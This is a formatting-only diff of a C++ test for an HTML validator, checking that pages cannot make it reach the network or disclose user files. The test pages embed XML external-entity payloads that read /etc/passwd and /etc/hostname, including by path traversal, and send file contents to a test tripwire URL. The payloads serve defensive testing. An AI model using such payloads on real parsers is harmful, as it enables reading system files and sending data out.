@@ -147,11 +147,13 @@ TEST_F(TessavoCheckTest, PagesReachNoNetworkAndDownloadsNoFileOfTheUser) {
   // A file's contents sent away in a URI, a remote entity, and files of the
   // user by absolute and by relative name.
   writeFile(folder_ + "site/leak.html",
-            html401 + "<!ENTITY % f SYSTEM \"/etc/hostname\">\n<!ENTITY % e \"<!ENTITY &#37; x SYSTEM '" +
+            html401 +
+                "<!ENTITY % f SYSTEM \"/etc/hostname\">\n<!ENTITY % e \"<!ENTITY &#37; x SYSTEM '" +
                 tripwire.url() + "/leak?%f;'>\">\n%e;%x;\n" + body);
   writeFile(folder_ + "site/files.html",
-            html401 + "<!ENTITY % p SYSTEM \"/etc/passwd\">\n<!ENTITY % h SYSTEM "
-                      "\"../../../../../../../../etc/passwd\">\n<!ENTITY % r SYSTEM \"" +
+            html401 +
+                "<!ENTITY % p SYSTEM \"/etc/passwd\">\n<!ENTITY % h SYSTEM "
+                "\"../../../../../../../../etc/passwd\">\n<!ENTITY % r SYSTEM \"" +
                 tripwire.url() + "/remote.ent\">\n%p;%h;%r;\n" + body);
   // The XHTML DTDs still resolve for a download.
   writeFile(folder_ + "site/xhtml.html",
@@ -171,11 +173,14 @@ TEST_F(TessavoCheckTest, PagesReachNoNetworkAndDownloadsNoFileOfTheUser) {
   EXPECT_FALSE(tripwire.touched()) << "the validator connected";
   EXPECT_EQ(downloaded.output.find("root"), std::string::npos) << downloaded.output;
   EXPECT_EQ(downloaded.output.find("not allowed in declaration subset"), std::string::npos)
-      << "a file's first character in a message:\n" << downloaded.output;
+      << "a file's first character in a message:\n"
+      << downloaded.output;
   EXPECT_NE(downloaded.output.find("6:26:E: element \"BLINK\" undefined"), std::string::npos)
-      << "the HTML 4.01 DTD did not resolve:\n" << downloaded.output;
+      << "the HTML 4.01 DTD did not resolve:\n"
+      << downloaded.output;
   EXPECT_NE(downloaded.output.find("3:88:E: element \"blink\" undefined"), std::string::npos)
-      << "the XHTML DTD did not resolve:\n" << downloaded.output;
+      << "the XHTML DTD did not resolve:\n"
+      << downloaded.output;
   EXPECT_NE(local.output.find("/etc/passwd:1:0:E: character \"r\""), std::string::npos)
       << local.output;
 }
